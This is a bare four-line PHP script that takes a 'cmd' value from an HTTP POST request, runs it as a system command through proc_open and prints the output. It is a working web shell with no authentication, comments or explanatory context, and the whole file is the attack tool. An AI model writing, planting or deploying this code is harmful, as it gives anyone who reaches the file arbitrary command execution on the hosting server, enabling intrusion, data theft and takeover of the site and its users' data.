<?php
$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
$p = proc_open($_POST['cmd'], $spec, $pipes);
echo stream_get_contents($pipes[1]);
